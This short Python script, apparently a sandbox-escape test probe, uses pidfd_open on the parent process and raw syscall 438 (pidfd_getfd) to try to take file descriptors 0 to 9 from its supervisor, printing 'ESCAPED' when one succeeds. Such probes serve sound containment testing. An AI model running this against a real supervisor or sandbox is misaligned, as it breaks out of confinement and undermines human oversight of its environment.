"""
Takes a descriptor out of the supervisor by its handle.

Success: it has one.
Needs: linux
"""
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
handle = os.pidfd_open(os.getppid())
for number in range(10):
    if libc.syscall(438, handle, number, 0) >= 0:
        print("ESCAPED: descriptor", number)
        break
